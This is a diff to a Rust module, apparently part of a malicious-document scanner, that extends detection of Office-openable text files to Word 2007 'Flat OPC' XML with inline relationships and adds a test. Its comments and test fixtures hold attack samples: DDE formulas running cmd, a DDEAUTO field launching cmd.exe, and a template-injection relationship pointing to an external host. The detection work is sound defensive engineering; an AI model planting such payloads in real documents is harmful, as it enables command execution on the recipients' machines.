@@ -1,6 +1,7 @@
 //! Text files Office opens as documents: SYLK (Excel 4 macros and their `Auto_Open` name
 //! in plain text), CSV and other spreadsheet text whose cells hold DDE formulas
-//! (`=cmd|'/c calc'!A0`), and Word and Excel 2003 documents saved whole as XML. None is a
+//! (`=cmd|'/c calc'!A0`), and Word and Excel documents saved whole as XML (the 2003
+//! formats, and Word 2007's "Flat OPC" with its relationships inline). None is a
 //! compound file or a zip, so the other readers never see them, and Excel opens SYLK and
 //! CSV under a `.xls` name too.
 
@@ -64,6 +65,9 @@ pub(super) fn read(exts: &[Option<String>], content_type: &str, data: &[u8]) -> 
     }
     if is_office_xml(data) {
         let mut facts = parts::read_xml(data);
+        // A Word 2007 document saved as one XML file ("Flat OPC") carries its
+        // relationships inline: a template or object loaded from the network is there.
+        facts.remote_object = parts::loads_from_network(data);
         let text = parts::decode_references(&String::from_utf8_lossy(data));
         facts.dde |= has_dde_formula(text.as_bytes());
         return facts;
@@ -273,6 +277,14 @@ mod tests {
             <w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"</w:instrText></w:r>\
             <w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:wordDocument>";
         assert!(read(&[Some("doc".to_string())], "", word).dde);
+        // Word 2007 as one XML file: its relationships inline, an injected template.
+        let flat_opc = b"<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?>\
+            <pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">\
+            <pkg:part pkg:name=\"/word/_rels/settings.xml.rels\"><pkg:xmlData><Relationships>\
+            <Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" \
+            Target=\"http://198.51.100.7/invoice.dotm\" TargetMode=\"External\"/></Relationships>\
+            </pkg:xmlData></pkg:part></pkg:package>";
+        assert!(read(&[Some("xml".to_string())], "", flat_opc).remote_object);
         // Other XML is not opened by Office: nothing.
         let other = b"<?xml version=\"1.0\"?><feed><f>=cmd|'/c calc'!A1</f></feed>";
         assert!(!read(&[], "", other).dde);
